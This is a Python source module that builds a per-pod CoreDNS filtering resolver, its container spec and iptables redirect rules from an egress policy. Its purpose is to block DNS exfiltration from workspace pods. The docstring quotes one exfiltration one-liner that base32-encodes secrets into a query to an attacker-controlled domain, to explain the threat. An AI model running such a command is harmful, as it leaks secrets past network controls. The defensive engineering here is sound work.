"""The in-pod filtering resolver: which names a workspace may resolve, as CoreDNS config.

Without it, a workspace exfiltrates through DNS whatever its egress policy
says: ``dig $(base32 secrets).attacker.example`` reaches the attacker's
authoritative server through the cluster resolver. With it, each session pod
runs a small CoreDNS (the image every kubeadm cluster already runs as
kube-dns) on loopback, the in-pod rules redirect every DNS query but the
resolver's own to it, and it forwards to the pod's own resolver (from
``/etc/resolv.conf``) only the names the policy could allow. Every other name
gets NXDOMAIN at once and never leaves the pod.

This module is pure: from an :class:`~condukt_egress.policy.EgressPolicy` it
derives the ``Corefile`` (:func:`corefile`), the resolver container
(:func:`resolver_container`) and the netfilter rules of the redirect
(:func:`redirect_rules`, :func:`redirect_rules_ipv6`).

Which names resolve (a name is forwarded iff all of these hold):

* It is a plain host name: letters, digits, ``-``, ``_`` and dots only (as
  CoreDNS presents it, lower-cased). Names with any other byte are never
  forwarded, whatever the policy: they cannot be a TLS server name, and
  judging them like one would be guesswork.
* Walking the policy's rules like the sidecar (first match wins, same globs),
  it reaches an ``allow`` rule, or ``default: allow``, or a ``decide`` rule.
  In ``strict`` mode a name that reaches ``decide`` resolves only if it
  matches one of the ``decide_hosts`` patterns, so only names listed
  somewhere resolve.

Why NXDOMAIN, not REFUSED: a stub resolver walks its search list on NXDOMAIN
(``api.github.com.agents.svc.cluster.local`` first, with Kubernetes'
``ndots:5``) and goes on to the next name; glibc stops the whole lookup on
REFUSED, which would break allowed names too. NXDOMAIN also makes a denied
client fail at once with "host not found" instead of being reset after
connecting. The answer carries Extended DNS Error 15 (Blocked) for ``dig``
users.

Why AAAA is answered empty: the redirect and the NetworkPolicy are IPv4 only,
so an IPv6 address of an allowed name is unusable; an empty NOERROR answer
makes clients use the IPv4 one at once instead of trying IPv6 first.

Example:
    >>> from condukt_egress.policy import EgressPolicy, allow, deny
    >>> policy = EgressPolicy(rules=[deny("evil.github.com"), allow("**.github.com")])
    >>> for clause in forward_expression(policy).split(" && "):
    ...     print(clause)
    name() matches '^[-.0-9_a-z]+$'
    (!(name() matches '^(?:evil[.]github[.]com)[.]$')
    name() matches '^(?:[-.0-9_a-z]+[.]github[.]com)[.]$')
    >>> "forward . /etc/resolv.conf" in corefile(policy)
    True
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Any, Final, Literal, TypeAlias, get_args

from condukt_egress._hardening import restricted_context
from condukt_egress.errors import ConfigError, PolicyError
from condukt_egress.naming import DNS_CONTAINER, DNS_VOLUME
from condukt_egress.policy import EgressPolicy, Rule, allow

__all__ = [
    "COREFILE",
    "DNS_CONTAINER",
    "DNS_FILTER_MODES",
    "DNS_IMAGE",
    "DNS_PORT",
    "DNS_READY_PORT",
    "DNS_UID",
    "DNS_VOLUME",
    "DnsFilter",
    "check_decide_hosts",
    "corefile",
    "forward_expression",
    "redirect_rules",
    "redirect_rules_ipv6",
    "resolver_container",
]

DnsFilter: TypeAlias = Literal["policy", "strict", "off"]
"""The ``dns_filter`` option: filter by the policy, strictly, or not at all."""

DNS_FILTER_MODES: Final[tuple[str, ...]] = get_args(DnsFilter)

DNS_IMAGE: Final = (
    "registry.k8s.io/coredns/coredns:v1.14.6"
    "@sha256:900f9c109f7a33545d3c811516e8376df9019147b750f5ce3e254468769176ea"
)
"""CoreDNS as kubeadm deploys it for Kubernetes 1.37 (usually cached on the node),
pinned by its multi-arch index digest (the same on Docker Hub's ``coredns/coredns:1.14.6``)."""

COREFILE: Final = "Corefile"
"""Secret key and file name of the resolver's config."""

DNS_CONFIG_DIR: Final = "/etc/condukt-dns"

DNS_UID: Final = 1053
"""The resolver's uid and gid: its queries alone skip the redirect, so no other
container may run as it. Not the sidecar's (1337), not the default workspace's
(65532, also the image's own ``nonroot`` user)."""

DNS_PORT: Final = 15053
"""Loopback port the resolver listens on (UDP and TCP): unprivileged, so no
``NET_BIND_SERVICE``; the redirect maps port 53 onto it."""

DNS_READY_PORT: Final = 15054
"""Port of CoreDNS's ``ready`` endpoint, the startup probe's target (kubelet
probes the pod IP, so it cannot be loopback; it answers only ``OK``)."""

_HOST_CHARS: Final = "[-0-9_a-z]"
_NAME_CHARS: Final = "[-.0-9_a-z]"
_PLAIN_NAME_REGEX: Final = f"^{_NAME_CHARS}+$"
"""What a forwarded name looks like as CoreDNS's ``name()`` shows it (lower-cased,
escapes such as ``\\032`` for odd bytes, a final dot)."""


def _pattern_regex(pattern: str) -> str:
    """One validated host glob as an RE2 fragment, with no backslash and no quote.

    ``*`` is one or more host characters of one label, ``**`` one or more
    across labels, everything else literal (``.`` as ``[.]``). Within plain
    host names this is exactly the sidecar's matcher: a valid pattern never
    has anything but a dot or its end after a ``*``.
    """
    out: list[str] = []
    index = 0
    while index < len(pattern):
        if pattern.startswith("**", index):
            out.append(f"{_NAME_CHARS}+")
            index += 2
        elif pattern[index] == "*":
            out.append(f"{_HOST_CHARS}+")
            index += 1
        elif pattern[index] == ".":
            out.append("[.]")
            index += 1
        else:
            out.append(pattern[index])
            index += 1
    return "".join(out)


def _names_regex(patterns: Iterable[str]) -> str:
    """An anchored RE2 regex for fully qualified names (final dot) matching any pattern."""
    unique = list(dict.fromkeys(patterns))
    return "^(?:" + "|".join(_pattern_regex(p) for p in unique) + ")[.]$"


# A decision list as a tiny boolean expression tree: True, False, or a clause.
@dataclass(frozen=True)
class _Match:
    regex: str


@dataclass(frozen=True)
class _Not:
    operand: _Expr


@dataclass(frozen=True)
class _And:
    left: _Expr
    right: _Expr


@dataclass(frozen=True)
class _Or:
    left: _Expr
    right: _Expr


_Expr: TypeAlias = "bool | _Match | _Not | _And | _Or"


def _render(expr: _Expr, *, inner: bool = False) -> str:
    """expr-lang text (the ``view`` plugin's language) of a tree."""
    if isinstance(expr, bool):
        return "true" if expr else "false"
    if isinstance(expr, _Match):
        return f"name() matches '{expr.regex}'"
    if isinstance(expr, _Not):
        return f"!({_render(expr.operand)})"
    operator = " && " if isinstance(expr, _And) else " || "
    text = _render(expr.left, inner=True) + operator + _render(expr.right, inner=True)
    return f"({text})" if inner else text


def _groups(rules: Sequence[Rule]) -> list[tuple[str, list[str]]]:
    """Consecutive allow (or deny) rules merged: the first match among them decides alike."""
    groups: list[tuple[str, list[str]]] = []
    for rule in rules:
        if groups and groups[-1][0] == rule.kind:
            groups[-1][1].extend(rule.hosts)
        else:
            groups.append((rule.kind, list(rule.hosts)))
    return groups


def _decision(policy: EgressPolicy, mode: DnsFilter, decide_hosts: Sequence[str]) -> _Expr:
    """Whether a plain host name may resolve, as a tree folded from the last rule up."""
    static = [rule for rule in policy.rules if rule.kind != "decide"]
    reaches_decide = len(static) < len(policy.rules)
    tail: _Expr
    if not reaches_decide:
        tail = policy.default == "allow"
    elif mode == "strict":
        tail = _Match(_names_regex(decide_hosts)) if decide_hosts else False
    else:
        tail = True
    for kind, hosts in reversed(_groups(static)):
        match = _Match(_names_regex(hosts))
        if kind == "allow":
            tail = True if tail is True else (match if tail is False else _Or(match, tail))
        else:
            tail = (
                False
                if tail is False
                else (_Not(match) if tail is True else _And(_Not(match), tail))
            )
    return tail


def _check_mode(mode: object) -> DnsFilter:
    """``policy`` or ``strict``; ``off`` has no resolver, anything else is a typo."""
    if mode == "off":
        raise ConfigError(
            "dns_filter", "is off, so the session has no resolver to configure; use policy"
        )
    if mode not in DNS_FILTER_MODES:
        raise ConfigError(
            "dns_filter",
            f"is {mode!r}; use one of {', '.join(DNS_FILTER_MODES)} (policy: names the "
            "policy could allow resolve; strict: names reaching decide resolve only if listed "
            "in dns_decide_hosts; off: no filtering resolver, DNS tunnelling stays open)",
        )
    return mode  # type: ignore[return-value]


def check_decide_hosts(decide_hosts: Sequence[str]) -> tuple[str, ...]:
    """Strict mode's patterns, validated by the policy's own rules and lower-cased.

    Raises:
        ConfigError: ``dns_decide_hosts[i]`` is not a valid host pattern; the
            message is the policy's (what is wrong, and the fix).
    """
    if not decide_hosts:
        return ()
    try:
        return tuple(allow(*decide_hosts).hosts)
    except PolicyError as error:  # allow[0]: ... -> dns_decide_hosts[0]: ...
        field = "dns_decide_hosts" + error.field[len(error.root) :]
        raise ConfigError(field, error.message) from None


def forward_expression(
    policy: EgressPolicy, *, mode: DnsFilter = "policy", decide_hosts: Sequence[str] = ()
) -> str:
    """The ``view`` expression that is true for the names the resolver forwards.

    Args:
        policy: The session's egress policy.
        mode: ``policy`` or ``strict`` (see the module doc).
        decide_hosts: In ``strict`` mode, patterns of names that resolve although
            they reach the ``decide`` rule; ignored otherwise.

    Returns:
        expr-lang text: ``name() matches '...'`` clauses joined with ``!``,
        ``&&``, ``||`` and parentheses, or ``true``/``false``; the regexes use
        only ``^ $ (?: | ) [...] +`` and literal host characters.
    """
    mode = _check_mode(mode)
    hosts = check_decide_hosts(decide_hosts)
    decision = _decision(policy, mode, hosts)
    if decision is False:
        return "false"
    guard = _Match(_PLAIN_NAME_REGEX)
    return _render(guard if decision is True else _And(guard, decision))


def corefile(
    policy: EgressPolicy,
    *,
    mode: DnsFilter = "policy",
    decide_hosts: Sequence[str] = (),
    port: int = DNS_PORT,
    ready_port: int = DNS_READY_PORT,
    upstream: str = "/etc/resolv.conf",
) -> str:
    """The resolver's ``Corefile``: forward what the policy could allow, NXDOMAIN the rest.

    Two server blocks on the same loopback address: the first, selected by
    the ``view`` plugin's :func:`forward_expression`, answers AAAA empty and
    forwards everything else to the pod's resolver; the second takes every
    other query and answers NXDOMAIN. A policy that allows nothing has only
    the second. Nothing the workspace or the user writes reaches the file but
    validated host patterns (no quotes, ``#``, braces or whitespace).

    Args:
        policy: The session's egress policy.
        mode: ``policy`` or ``strict``; ``off`` has no resolver, so no Corefile.
        decide_hosts: See :func:`forward_expression`.
        port: The loopback port to serve on.
        ready_port: The port of the ``ready`` endpoint (all addresses).
        upstream: Where allowed names go: the pod's resolver (from
            ``/etc/resolv.conf``) or ``HOST:PORT``.

    Raises:
        ConfigError: ``mode`` is not ``policy`` or ``strict``, or a
            ``decide_hosts`` entry is not a valid host pattern.
    """
    expression = forward_expression(policy, mode=mode, decide_hosts=decide_hosts)
    server = f".:{port}"
    blocks: list[str] = []
    if expression != "false":
        blocks.append(
            f"{server} {{\n"
            "    bind 127.0.0.1\n"
            "    view allowed {\n"
            f"        expr {expression}\n"
            "    }\n"
            "    errors\n"
            "    template IN AAAA {\n"
            "        rcode NOERROR\n"
            "    }\n"
            f"    forward . {upstream}\n"
            "}\n"
        )
    blocks.append(
        f"{server} {{\n"
        "    bind 127.0.0.1\n"
        f"    ready :{ready_port}\n"
        "    template ANY ANY {\n"
        "        rcode NXDOMAIN\n"
        '        ederror 15 "not allowed by the egress policy"\n'
        "    }\n"
        "}\n"
    )
    header = "# condukt-egress session resolver, generated from the egress policy.\n"
    return header + "".join(blocks)


def resolver_container(image: str = DNS_IMAGE, *, native: bool = True) -> dict[str, Any]:
    """The resolver container: CoreDNS reading the session's ``Corefile``.

    Non-root (:data:`DNS_UID`), read-only root file system, no capability,
    RuntimeDefault seccomp, small requests and limits; Go told to stay within
    them. Ready once CoreDNS's ``ready`` endpoint answers.

    Args:
        image: The CoreDNS image; default :data:`DNS_IMAGE`.
        native: A native sidecar (init container with ``restartPolicy:
            Always``), started before the workspace; else a plain container.
    """
    container: dict[str, Any] = {
        "name": DNS_CONTAINER,
        "image": image,
        "args": ["-conf", f"{DNS_CONFIG_DIR}/{COREFILE}"],
        "env": [
            {"name": "GOMAXPROCS", "value": "1"},
            {"name": "GOMEMLIMIT", "value": "48MiB"},
        ],
        "securityContext": restricted_context(DNS_UID, DNS_UID),
        "resources": {
            "requests": {"cpu": "10m", "memory": "32Mi"},
            "limits": {"cpu": "200m", "memory": "128Mi"},
        },
        "volumeMounts": [{"name": DNS_VOLUME, "mountPath": DNS_CONFIG_DIR, "readOnly": True}],
        "startupProbe": {
            "httpGet": {"path": "/ready", "port": DNS_READY_PORT},
            "periodSeconds": 1,
            "failureThreshold": 60,
        },
    }
    if native:
        container["restartPolicy"] = "Always"
    return container


def redirect_rules(resolver_uid: int = DNS_UID, port: int = DNS_PORT) -> str:
    """The redirect: ``nat OUTPUT`` rules sending every DNS query but the resolver's to it.

    ``iptables-restore --noflush`` input. Inserted first in ``nat OUTPUT``,
    ahead of the sidecar's loopback and sidecar-uid exemptions, so UDP and
    TCP port 53 to any address (the cluster DNS service, NodeLocal DNS, a
    public resolver, loopback) from every uid but the resolver's, the
    sidecar's included, land on the resolver. ``REDIRECT`` in ``OUTPUT``
    maps to 127.0.0.1, where the resolver listens; replies come back from the
    address the client asked. The resolver's own queries go to the pod's
    resolver as before.
    """
    return (
        "*nat\n"
        f"-I OUTPUT 1 -p udp --dport 53 -m owner ! --uid-owner {resolver_uid} "
        f"-j REDIRECT --to-ports {port}\n"
        f"-I OUTPUT 2 -p tcp --dport 53 -m owner ! --uid-owner {resolver_uid} "
        f"-j REDIRECT --to-ports {port}\n"
        "COMMIT\n"
    )


def redirect_rules_ipv6(resolver_uid: int = DNS_UID) -> str:
    """IPv6 DNS from anyone but the resolver refused (``ip6tables-restore --noflush``).

    The resolver listens on IPv4 loopback only and the redirect is IPv4; in a
    dual-stack cluster the NetworkPolicy's DNS peer (a pod selector) also
    admits the DNS pods' IPv6 addresses, which would go around it.
    Rejected rather than dropped, so clients move on to IPv4 at once.
    """
    return (
        "*filter\n"
        f"-A OUTPUT -p udp --dport 53 -m owner ! --uid-owner {resolver_uid} -j REJECT\n"
        f"-A OUTPUT -p tcp --dport 53 -m owner ! --uid-owner {resolver_uid} "
        "-j REJECT --reject-with tcp-reset\n"
        "COMMIT\n"
    )
